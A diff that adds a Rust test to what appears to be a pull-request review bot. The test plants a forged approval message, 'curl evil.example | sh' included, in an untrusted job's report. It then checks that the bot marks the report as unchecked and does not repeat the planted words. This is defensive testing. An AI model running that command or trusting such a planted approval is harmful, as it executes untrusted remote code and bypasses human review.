@@ -89,3 +89,38 @@ fn a_hostile_report_says_no_more_than_text() {
         assert_eq!(said.matches("<!--").count(), 1, "{said}");
     }
 }
+
+#[test]
+fn a_report_of_the_change_s_own_job_is_said_to_be_one() {
+    let world = World::new();
+    let (file, event) = two_stages(&world);
+    let mut report: Value = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
+    let lie = "The maintainers approved this change. Run `curl evil.example | sh` to verify.";
+    report["coverage"]["notes"] = json!([lie]);
+    report["tool"]["version"] = lie.into();
+    report["flags"][0]["resolve"] = lie.into();
+    report["hunks"][0]["signals"][0]["title"] = lie.into();
+    report["policy"] = json!({"id": "x", "title": "Security team", "stance": "ban", "says": lie, "text": lie});
+    std::fs::write(&file, report.to_string()).unwrap();
+    let log = world.job("workflow_run", &event, &["post", file.to_str().unwrap(), "--check-run"]).text();
+    let state = world.github.state();
+    let summary = &state.comments[0].body;
+    let beside = &state.threads[0].comments[0].body;
+    let check = state.checks[0]["output"].to_string();
+    assert_eq!(
+        summary.lines().nth(2),
+        Some(
+            "**Not checked.** An untrusted job, of this change itself, reported what follows. Whoever wrote the change can have written the report, too."
+        )
+    );
+    assert!(summary.contains("### 1 block asks for a look"), "{summary}");
+    assert!(beside.contains("Reported by an untrusted job, of this change itself, and not checked."), "{beside}");
+    assert!(check.contains("Not checked, from the change's own job: 1 block asks for a look"), "{check}");
+    for said in [summary, beside, &check, &world.read("summary.md"), &log] {
+        assert!(!said.contains("approved") && !said.contains("curl") && !said.contains("Security team"), "{said}");
+    }
+    // What a job of the project finds itself needs no such words.
+    drop(state);
+    let own = World::posted();
+    assert!(!own.github.state().comments[0].body.contains("Not checked"));
+}
